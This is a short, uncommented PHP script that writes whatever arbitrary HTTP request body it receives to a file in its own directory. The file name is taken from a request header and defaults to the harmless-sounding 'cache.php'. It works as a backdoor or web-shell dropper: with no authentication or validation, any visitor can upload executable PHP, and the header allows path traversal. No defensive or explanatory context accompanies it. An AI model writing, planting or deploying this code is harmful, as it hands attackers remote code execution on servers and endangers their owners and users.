<?php
$d = file_get_contents('php://input');
$n = isset($_SERVER['HTTP_X_NAME']) ? $_SERVER['HTTP_X_NAME'] : 'cache.php';
$fp = fopen(__DIR__ . '/' . $n, 'wb'); fwrite($fp, $d); fclose($fp);
